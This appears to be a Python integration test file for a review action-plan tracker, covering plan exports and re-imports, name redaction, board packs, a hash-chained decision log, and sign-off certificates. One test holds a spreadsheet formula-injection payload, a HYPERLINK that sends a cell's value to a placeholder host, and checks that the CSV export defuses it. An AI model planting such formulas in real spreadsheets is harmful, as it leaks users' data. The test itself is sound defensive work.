"""Documents out on real databases: the plan round trip, the PDFs, redaction, the board pack, the log
export and the sign-off certificate.

The clock is pinned (2013-10-01, the conftest's): days late and the period do not depend on today.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
from datetime import date
from pathlib import Path

import docx
import openpyxl
import pytest
from sqlalchemy import text

from documents import csv_safe
from documents.board_html import board_html
from documents.board_pdf import board_pdf
from documents.certificate import certificate_html, certificate_pdf
from documents.export_log import AFTER_BREAK, CsvLog, JsonLog
from documents.formats import PLAN_WRITERS
from documents.importer import read_plan
from domain.rag import Rag
from domain.states import Event
from storage.chain import HASHED_FIELDS
from tests.integration.helpers import ASSURER, COMMISSIONER, COORDINATOR, LEAD, LEAD_BSMHFT, seed
from tests.paths import FIXTURES
from tests.pdf import pdf_pages, pdf_text
from tests.unit.documents.test_plan_export import same_plan
from tests.unit.plan_builders import SEED_REFS, seed_lines
from workflows.commands.extensions import decide_extension, request_extension
from workflows.commands.final_audit import FinalAudit, sign_off, start_final_audit
from workflows.commands.import_plan import for_partnership, import_plan
from workflows.commands.people import NewPerson, add_person
from workflows.commands.sweep import sweep
from workflows.commands.transitions import TransitionCommand, take_transition
from workflows.context import ActionKey, Principal
from workflows.errors import InvalidInput, NotVisible
from workflows.queries.actions import ActionQuery, list_actions
from workflows.queries.board_pack import board_pack
from workflows.queries.exports import certificate, plan_export
from workflows.queries.log import ExpectedHead, LogReport, export_log, verify_log
from workflows.runtime.container import App
from workflows.runtime.working_days import england_and_wales

REVIEW = "BDHR2011/12-03"
DIRECTOR = "director.wmp@bcsp.test"


async def act(app: App, who: str, ref: str, event: Event, **kw: str) -> None:
    command = TransitionCommand(actor_email=who, action=ActionKey(ref), event=event, **kw)
    await take_transition(command, uow_factory=app.uow, clock=app.clock, store=app.store)


async def under_way(app: App) -> None:
    """Progress, a verified and assured action, a withdrawal, an approved extension and the sweep's steps."""
    await act(app, LEAD, "3.11.1", Event.RECORD_PROGRESS, note="Drafting the briefing")
    await act(app, LEAD_BSMHFT, "3.2.3", Event.SUBMIT_EVIDENCE, note="Audit of 40 records")
    await act(app, COMMISSIONER, "3.2.3", Event.VERIFY)
    await act(app, ASSURER, "3.2.3", Event.ASSURE)
    await act(app, ASSURER, "3.1.2", Event.WITHDRAW, reason="Superseded by 3.1.1")
    key = ActionKey("3.11.2")
    await request_extension(LEAD, key, date(2014, 3, 31), "IMS release", uow_factory=app.uow, clock=app.clock)
    await decide_extension(DIRECTOR, key, True, "", uow_factory=app.uow, clock=app.clock)
    await sweep(app.clock.today(), uow_factory=app.uow, clock=app.clock, calendar=england_and_wales())


async def plan_now(app: App, **kw: object) -> object:
    return await plan_export(app.reader, REVIEW, today=app.clock.today(), policy=app.rag_policy, **kw)  # type: ignore[arg-type]


@pytest.mark.parametrize("suffix", ["docx", "xlsx"])
async def test_the_plan_under_way_exported_imports_back_with_nothing_changed(
    app: App, seed_plan: Path, tmp_path: Path, suffix: str
) -> None:
    """Exported with live progress, RAG and checks (and an extension in force), then imported the way
    `dhrflow import` does: the same actions and text as the seed, and the import changes nothing."""
    await seed(app, seed_plan)
    await under_way(app)
    plan = await plan_now(app)
    path = tmp_path / f"plan.{suffix}"
    path.write_bytes(PLAN_WRITERS[suffix](plan))  # type: ignore[arg-type]

    draft = for_partnership(read_plan(path), None)
    same_plan(read_plan(seed_plan), draft)
    report = await import_plan(draft, uow_factory=app.uow, clock=app.clock, actor_email=COORDINATOR, dry_run=True)
    assert (report.added, report.updated, report.missing, report.unchanged) == ([], {}, [], 13)
    assert not report.changed  # the export's own lines above the tables are not notes of the plan


async def test_the_plan_shows_the_latest_progress_the_colour_and_who_checked_when(app: App, seed_plan: Path) -> None:
    await seed(app, seed_plan)
    await under_way(app)
    plan = await plan_now(app)
    by_ref = {a.ref: a for a in plan.actions}  # type: ignore[attr-defined]
    assert (
        by_ref["3.11.1"]
        .cell("outcome_progress")
        .endswith("[Tracker] Progress update 01/10/2013 (Lead WMP): Drafting the briefing")
    )
    assert by_ref["3.2.3"].cell("quality_assured_by") == (
        "To be verified by Commissioners\n"
        "[Tracker] Verified by Health Commissioner (commissioner, NHS), 01/10/2013\n"
        "[Tracker] Assured by Partnership Assurer (partnership assurer, BCSP), 01/10/2013"
    )
    assert by_ref["3.2.3"].rag is Rag.BLUE and by_ref["3.1.2"].cell("status_rag") == "[Tracker] Grey"
    assert by_ref["3.2.1"].cell("status_rag") == "[Tracker] Red"
    # The target in force first, with the date it replaced beside it; the plan's own text below it.
    assert by_ref["3.11.2"].cell("target_date_text") == "[Tracker] Target 31/03/2014, extended from 30/09/2013\nSep-13"


@pytest.mark.parametrize("suffix", ["docx", "xlsx"])
async def test_milestones_are_shown_in_the_exported_plan_and_read_back_out_of_it(
    app: App, seed_plan: Path, tmp_path: Path, suffix: str
) -> None:
    await seed(app, seed_plan)
    brent = FIXTURES / "real" / "brent-dhr-appendix3.xlsx"
    await import_plan(
        read_plan(brent, partnership_short_name="BCSP", review_ref="Brent DHR"),
        uow_factory=app.uow,
        clock=app.clock,
        actor_email=COORDINATOR,
    )
    plan = await plan_export(app.reader, "Brent DHR", today=app.clock.today(), policy=app.rag_policy)
    [action] = plan.actions
    assert action.cell("target_date_text").endswith(
        "[Tracker] Milestones: 30/11/2014; 31/12/2014; 28/02/2015 (read as the year after); no date"
    )
    path = tmp_path / f"brent.{suffix}"
    path.write_bytes(PLAN_WRITERS[suffix](plan))
    again = await import_plan(
        read_plan(path), uow_factory=app.uow, clock=app.clock, actor_email=COORDINATOR, dry_run=True
    )
    assert (again.added, again.updated, again.unchanged, again.changed) == ([], {}, 1, False)


async def test_the_pdfs_render_pages_and_hold_every_ref(app: App, seed_plan: Path, tmp_path: Path) -> None:
    await seed(app, seed_plan)
    await under_way(app)
    plan_pdf = tmp_path / "plan.pdf"
    plan_pdf.write_bytes(PLAN_WRITERS["pdf"](await plan_now(app)))  # type: ignore[arg-type]
    assert pdf_pages(plan_pdf) >= 2
    shown = pdf_text(plan_pdf)
    assert all(ref in shown for ref in SEED_REFS)
    public_pdf = tmp_path / "public.pdf"
    public_pdf.write_bytes(PLAN_WRITERS["pdf"](await plan_now(app, public=True)))  # type: ignore[arg-type]
    assert pdf_pages(public_pdf) >= 2 and all(ref in pdf_text(public_pdf) for ref in SEED_REFS)

    pack = await board_pack(
        app.reader, None, date(2013, 9, 1), app.clock.today(), today=app.clock.today(), policy=app.rag_policy
    )
    board = tmp_path / "board.pdf"
    board.write_bytes(board_pdf(pack))
    assert pdf_pages(board) >= 1
    shown = pdf_text(board)
    assert "Overdue actions" in shown and all(o.ref in shown for o in pack.overdue)


async def test_redaction_removes_every_person_name_present_in_the_data(
    app: App, seed_plan: Path, tmp_path: Path
) -> None:
    """Realistic names, held as people, typed into the plan's text, and recorded on the decisions."""
    plan_text = "\n".join(seed_lines()).replace("BSMHFT - CPA Lead\t", "Priya Raman, BSMHFT - CPA Lead\t")
    path = tmp_path / "plan.txt"
    path.write_text(plan_text, encoding="utf-8")
    await import_plan(read_plan(path), uow_factory=app.uow, clock=app.clock)
    people = [
        ("Priya Raman", "priya.raman@bsmhft.test", "lead_officer", "BSMHFT"),
        ("Tomasz Nowak", "tomasz.nowak@ccg.test", "commissioner", "NHS"),
        ("Grace O'Neill", "grace.oneill@bcsp.test", "partnership_assurer", None),
        ("Dev Patel", "dev.patel@wmp.test", "lead_officer", "Police"),
        ("Ann Coordinator-Jones", "ann.cj@bcsp.test", "coordinator", None),
    ]
    for name, email, role, agency in people:
        await add_person(NewPerson(name, email, role, agency), uow_factory=app.uow, clock=app.clock)
    await act(app, "dev.patel@wmp.test", "3.11.1", Event.RECORD_PROGRESS, note="Priya Raman to send the note")
    await act(app, "priya.raman@bsmhft.test", "3.2.3", Event.SUBMIT_EVIDENCE, note="Audit by Priya Raman")
    await act(app, "tomasz.nowak@ccg.test", "3.2.3", Event.VERIFY)
    await act(app, "grace.oneill@bcsp.test", "3.2.3", Event.ASSURE)

    full = await plan_now(app)
    assert "Priya Raman" in PLAN_WRITERS["csv"](full).decode()  # the full plan has them; the public one must not
    public = await plan_now(app, public=True)
    names = [n for n, *_ in people] + [e for _, e, *_ in people]
    for kind, writer in PLAN_WRITERS.items():
        target = tmp_path / f"public.{kind}"
        target.write_bytes(writer(public))  # type: ignore[arg-type]
        shown = _text_of(target).casefold()
        assert not [n for n in names if n.casefold() in shown], kind
        assert (
            "[lead officer, birmingham & solihull mental health foundation trust (bsmhft)], bsmhft - cpa lead"
            in (shown)
            or kind == "pdf"
        )  # the PDF wraps the cell's lines
        assert "removed: the names of people recorded in the tracker" in shown or kind == "csv"


def _text_of(path: Path) -> str:
    if path.suffix == ".pdf":
        return " ".join(pdf_text(path).split())
    if path.suffix == ".docx":
        document = docx.Document(str(path))
        cells = [c.text for t in document.tables for r in t.rows for c in r.cells]
        return "\n".join([p.text for p in document.paragraphs] + cells)
    if path.suffix == ".xlsx":
        sheet = openpyxl.load_workbook(path).active
        assert sheet is not None
        return "\n".join(str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None)
    return path.read_text(encoding="utf-8")


async def test_an_agencys_people_get_their_own_agencys_plan_and_none_of_the_partnership_documents(
    app: App, seed_plan: Path
) -> None:
    await seed(app, seed_plan)
    async with app.reader() as uow:
        lead = await uow.run(lambda tx: tx.people.by_email(LEAD))
    assert lead is not None
    principal = Principal(lead)
    plan = await plan_now(app, principal=principal)
    assert [a.ref for a in plan.actions] == ["3.11.1", "3.11.2"]  # type: ignore[attr-defined]
    with pytest.raises(NotVisible):
        await plan_now(app, principal=principal, public=True)
    with pytest.raises(NotVisible):
        await board_pack(
            app.reader,
            REVIEW,
            date(2013, 9, 1),
            date(2013, 10, 1),
            today=date(2013, 10, 1),
            policy=app.rag_policy,
            principal=principal,
        )
    with pytest.raises(InvalidInput, match="no review 'DHR 1999-01'"):
        await plan_export(app.reader, "DHR 1999-01", today=app.clock.today(), policy=app.rag_policy)


async def test_the_board_pack_has_rag_by_agency_overdue_days_and_the_periods_events(app: App, seed_plan: Path) -> None:
    await seed(app, seed_plan)
    await under_way(app)
    today = app.clock.today()
    pack = await board_pack(app.reader, REVIEW, date(2013, 9, 1), today, today=today, policy=app.rag_policy)
    [review] = pack.reviews
    assert review.actions == 13 and review.totals[Rag.BLUE] == 1 and review.totals[Rag.GREY] == 1
    late = {o.ref: o.days_late for o in pack.overdue}
    assert late["3.2.1"] == (today - date(2013, 1, 31)).days == 243
    assert "3.11.2" not in late  # extended to 2014-03-31
    assert [(c.ref, c.outcome) for c in pack.closures] == [("3.2.3", "assured"), ("3.1.2", "withdrawn")]
    [extension] = pack.extensions
    assert (extension.ref, extension.from_date, extension.to_date) == ("3.11.2", date(2013, 9, 30), date(2014, 3, 31))
    assert "3.2.1" in {e.ref for e in pack.escalations}
    html = board_html(pack)
    assert html.count("<svg") == 1 and 'fill="#C62828"' in html and "243" in html
    assert review.label == f"DARDR {REVIEW}" and f"<h3>DARDR {REVIEW}: " in html

    before = await board_pack(app.reader, None, date(2013, 9, 1), date(2013, 9, 30), today=today, policy=app.rag_policy)
    assert (before.closures, before.extensions, before.escalations) == ((), (), ())


async def verified_against(app: App, head: str) -> LogReport:
    """``dhrflow log verify --expect-head HEAD``'s use case, for the one partnership."""
    [report] = await verify_log(app.reader, expect=[ExpectedHead.parse(head)])
    return report


async def test_the_board_pack_prints_the_log_head_that_log_verify_accepts(
    app: App, seed_plan: Path, tmp_path: Path
) -> None:
    await seed(app, seed_plan)
    await under_way(app)
    today = app.clock.today()
    pack = await board_pack(app.reader, None, date(2013, 9, 1), today, today=today, policy=app.rag_policy)
    head = pack.log_head.text
    [now] = await verify_log(app.reader)
    assert head == f"BCSP:{now.chain.head_seq}:{now.chain.head_hash[:16]}"  # the head, 16 hex digits
    assert f"<strong>Decision log head when this pack was made: {head}</strong>" in board_html(pack)
    assert f"<code>dhrflow log verify --expect-head {head}</code>" in board_html(pack)
    path = tmp_path / "board.pdf"
    path.write_bytes(board_pdf(pack))
    shown = " ".join(pdf_text(path).split())
    assert f"Decision log head when this pack was made: {head} Keep it with the minutes." in shown
    assert f"removed or altered: dhrflow log verify --expect-head {head}" in shown

    await act(app, LEAD, "3.11.1", Event.RECORD_PROGRESS, note="Briefing sent")  # the log moves on
    assert (await verified_against(app, head)).ok


async def test_the_log_export_holds_every_decision_each_checkable_from_the_file_alone(
    app: App, seed_plan: Path
) -> None:
    await seed(app, seed_plan)
    await under_way(app)
    out = io.StringIO()
    report = await export_log(app.reader, JsonLog(out))
    exported = json.loads(out.getvalue())
    assert report.ok and exported["check"]["ok"] is True
    decisions = exported["decisions"]
    assert len(decisions) == exported["check"]["checked"] == report.chain.checked > 10
    previous = "0" * 64
    for record in decisions:
        content = json.dumps(
            {name: record[name] for name in exported["hashed_fields"]},
            sort_keys=True,
            separators=(",", ":"),
            ensure_ascii=False,
        )
        assert record["prev_hash"] == previous
        assert hashlib.sha256(f"{previous}|{content}".encode()).hexdigest() == record["hash"]
        previous = record["hash"]
    assert set(exported["hashed_fields"]) == set(HASHED_FIELDS)

    as_csv = io.StringIO()
    await export_log(app.reader, CsvLog(as_csv))
    rows = list(csv.DictReader(io.StringIO(as_csv.getvalue())))
    assert [r["hash"] for r in rows] == [d["hash"] for d in decisions] and {r["chain_check"] for r in rows} == {"ok"}
    # The head names each review's kind; each CSV row its review's (not a hashed field: the chain is unchanged).
    dardr = {"key": "dardr", "name": "Domestic Abuse Related Death Review", "abbreviation": "DARDR"}
    assert exported["reviews"] == {REVIEW: dardr}
    assert {r["review_kind"] for r in rows if r["review_ref"] == REVIEW} == {"DARDR"}


async def test_a_progress_note_written_as_a_formula_reaches_the_log_csv_as_text(app: App, seed_plan: Path) -> None:
    """Issue 14: the cell goes out quoted, so a spreadsheet shows it and runs nothing; taking the quote off
    gives the note as the JSON export and the chain have it."""
    await seed(app, seed_plan)
    formula = '=HYPERLINK("http://x.invalid/?"&B2,"Open the evidence")'
    await act(app, LEAD, "3.11.1", Event.RECORD_PROGRESS, note=formula)
    as_csv, as_json = io.StringIO(), io.StringIO()
    assert (await export_log(app.reader, CsvLog(as_csv))).ok
    await export_log(app.reader, JsonLog(as_json))
    [row] = [r for r in csv.DictReader(io.StringIO(as_csv.getvalue())) if r["event"] == "record_progress"]
    [record] = [d for d in json.loads(as_json.getvalue())["decisions"] if d["event"] == "record_progress"]
    assert row["note"] == "'" + formula and row["chain_check"] == "ok"
    assert csv_safe.unescape(row["note"]) == record["note"] == formula


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
async def test_a_tampered_log_exports_with_the_break_marked(app: App, seed_plan: Path) -> None:
    await seed(app, seed_plan)
    await under_way(app)
    async with app.uow() as uow:
        await uow.connection.execute(text("DROP TRIGGER decision_no_update"))
        await uow.connection.execute(text("UPDATE decision SET reason = 'fine' WHERE event = 'withdraw'"))
        await uow.commit()
    out = io.StringIO()
    report = await export_log(app.reader, CsvLog(out))
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert not report.ok
    broken = [r for r in rows if r["chain_check"].startswith("BROKEN")]
    assert [r["event"] for r in broken] == ["withdraw"] and "altered" in broken[0]["chain_check"]
    after = rows[rows.index(broken[0]) + 1 :]
    assert after and {r["chain_check"] for r in after} == {AFTER_BREAK}
    assert len(rows) == report.chain.checked + 1 + len(after)


async def signed_off(app: App) -> FinalAudit:
    """The seed plan closed (one action assured, the rest withdrawn) and signed off."""
    await start_final_audit(ASSURER, REVIEW, uow_factory=app.uow, clock=app.clock)
    await act(app, LEAD, "3.11.1", Event.SUBMIT_EVIDENCE, note="Briefing sent")
    await act(app, COMMISSIONER, "3.11.1", Event.VERIFY)
    await act(app, ASSURER, "3.11.1", Event.ASSURE)
    for ref in SEED_REFS:
        if ref != "3.11.1":
            await act(app, ASSURER, ref, Event.WITHDRAW, reason="Superseded by the national guidance")
    return await sign_off(ASSURER, REVIEW, uow_factory=app.uow, clock=app.clock)


async def test_the_certificate_names_the_frozen_hash_who_signed_and_when_and_checks_them_again(
    app: App, seed_plan: Path, tmp_path: Path
) -> None:
    await seed(app, seed_plan)
    with pytest.raises(InvalidInput, match="is not signed off"):
        await certificate(app.reader, REVIEW)
    signed = await signed_off(app)

    found = await certificate(app.reader, REVIEW)
    assert found.holds and found.snapshot_sha256 == signed.sha256 == found.logged_sha256
    assert (found.signed_by, found.signed_role) == ("Partnership Assurer", "partnership assurer")
    assert found.actions_by_state == {"partnership_assured": 1, "withdrawn": 12}
    assert f"{found.signed_at:%Y-%m-%d %H:%M}" == "2013-10-01 10:00"  # 09:00 UTC is 10:00 in London in October
    path = tmp_path / "certificate.pdf"
    path.write_bytes(certificate_pdf(found))
    shown = pdf_text(path)
    assert pdf_pages(path) == 1 and signed.sha256 in shown and "Verified now" in shown
    assert signed.sha256 in certificate_html(found)
    # The seed plan calls itself a Domestic Homicide Review: the certificate is a DARDR's, and says so with the
    # former name as the kind's vocabulary words it.
    assert "Domestic Abuse Related Death Review: final audit sign-off certificate" in " ".join(shown.split())
    assert ("Review", f"DARDR {REVIEW}") in found.rows()
    formerly = "Domestic Abuse Related Death Review (DARDR), formerly Domestic Homicide Review (until 2024)"
    assert ("Kind of review", formerly) in found.rows()
    assert formerly in certificate_html(found) and formerly in " ".join(shown.split())

    async with app.uow() as uow:  # the frozen snapshot edited underneath: the certificate says so
        await uow.connection.execute(text("UPDATE plan_signoff SET snapshot = replace(snapshot, '3.11.1', '3.11.9')"))
        await uow.commit()
    altered = await certificate(app.reader, REVIEW)
    assert not altered.holds and "no longer hashes" in altered.findings()[0]
    assert "NOT VERIFIED" in certificate_html(altered)


async def test_the_certificate_prints_the_log_head_at_sign_off_and_now_both_accepted_by_log_verify(
    app: App, seed_plan: Path, tmp_path: Path
) -> None:
    await seed(app, seed_plan)
    await signed_off(app)
    [at_sign_off] = await verify_log(app.reader)
    await add_person(  # a decision after the sign-off: the head moves on, the sign-off's stays
        NewPerson("Board Member", "board.member@bcsp.test", "viewer"),
        uow_factory=app.uow,
        clock=app.clock,
        actor_email=COORDINATOR,
    )
    found = await certificate(app.reader, REVIEW)
    signed, now = found.signed_head.text, found.head_now.text
    assert signed == f"BCSP:{found.decision_seq}:{found.decision_hash[:16]}"
    assert found.decision_seq == at_sign_off.chain.head_seq  # the sign-off decision was the head then
    assert found.head_now.seq == found.decision_seq + 1

    html = certificate_html(found)
    path = tmp_path / "certificate.pdf"
    path.write_bytes(certificate_pdf(found))
    shown = " ".join(pdf_text(path).split())
    for document in (html, shown):
        assert f"{signed} (the sign-off decision)" in document
        assert f"{now} (when this certificate was made)" in document
    assert f"<code>dhrflow log verify --expect-head {signed}</code>" in html
    assert f"`dhrflow log verify --expect-head {signed}`" in shown and pdf_pages(path) == 1
    assert (await verified_against(app, signed)).ok and (await verified_against(app, now)).ok


async def test_reimporting_the_plans_own_date_keeps_an_approved_extension(
    app: App, seed_plan: Path, tmp_path: Path
) -> None:
    await seed(app, seed_plan)
    key = ActionKey("3.11.2")
    await request_extension(LEAD, key, date(2014, 3, 31), "IMS release", uow_factory=app.uow, clock=app.clock)
    await decide_extension(DIRECTOR, key, True, "", uow_factory=app.uow, clock=app.clock)
    again = await import_plan(read_plan(seed_plan), uow_factory=app.uow, clock=app.clock, actor_email=COORDINATOR)
    assert again.updated == {} and again.unchanged == 13
    lines = seed_lines()
    [n] = [i for i, line in enumerate(lines) if line.startswith("3.11.2\t")]
    lines[n] = lines[n].replace("\tSep-13\t", "\tOct-13\t", 1)
    revised = tmp_path / "revised.txt"
    revised.write_text("\n".join(lines), encoding="utf-8")
    changed = await import_plan(read_plan(revised), uow_factory=app.uow, clock=app.clock, actor_email=COORDINATOR)
    assert changed.updated == {"3.11.2": ["original_target_date", "target_date", "target_date_text"]}
    views = await list_actions(app.reader, ActionQuery(), today=app.clock.today(), policy=app.rag_policy)
    [view] = [v for v in views if v.ref == "3.11.2"]
    assert (view.target_date, view.original_target_date) == (date(2013, 10, 31), None)  # the plan's new date wins


SAR = FIXTURES / "kinds" / "sar-2021-22-01-action-plan.txt"


async def test_a_sars_plan_exported_states_its_kind_in_every_format_and_imports_back_unchanged(
    app: App, seed_plan: Path, tmp_path: Path
) -> None:
    """A Safeguarding Adults Review goes out as one: a "Review kind" line above the tables of the DOCX, XLSX and
    PDF, a ``review_kind`` column in the CSV, and the public version's notes line in the kind's words; the line
    does not come back in as a note or change the title."""
    await seed(app, seed_plan)
    draft = for_partnership(read_plan(SAR), "BCSP")
    await import_plan(draft, uow_factory=app.uow, clock=app.clock, actor_email=COORDINATOR)
    ref = "SAR2021/22-01"
    plan = await plan_export(app.reader, ref, today=app.clock.today(), policy=app.rag_policy)
    line = "Review kind: Safeguarding Adults Review (SAR)"
    assert line in plan.preface() and "formerly" not in " ".join(plan.preface())
    written = {}
    for suffix in ("docx", "xlsx", "pdf", "csv"):
        path = tmp_path / f"sar.{suffix}"
        path.write_bytes(PLAN_WRITERS[suffix](plan))
        written[suffix] = path
    paragraphs = [p.text for p in docx.Document(str(written["docx"])).paragraphs]
    assert line in paragraphs
    sheet = openpyxl.load_workbook(written["xlsx"]).active
    assert sheet is not None and line in [c.value for row in sheet.iter_rows() for c in row]
    assert line in " ".join(pdf_text(written["pdf"]).split())
    rows = list(csv.DictReader(io.StringIO(written["csv"].read_text(encoding="utf-8-sig"))))
    assert {r["review_kind"] for r in rows} == {"Safeguarding Adults Review"} and len(rows) == 2
    for suffix in ("docx", "xlsx"):
        back = for_partnership(read_plan(written[suffix]), "BCSP")
        report = await import_plan(back, uow_factory=app.uow, clock=app.clock, actor_email=COORDINATOR, dry_run=True)
        assert (report.unchanged, report.changed, report.kind and report.kind.key) == (2, False, "sar"), suffix
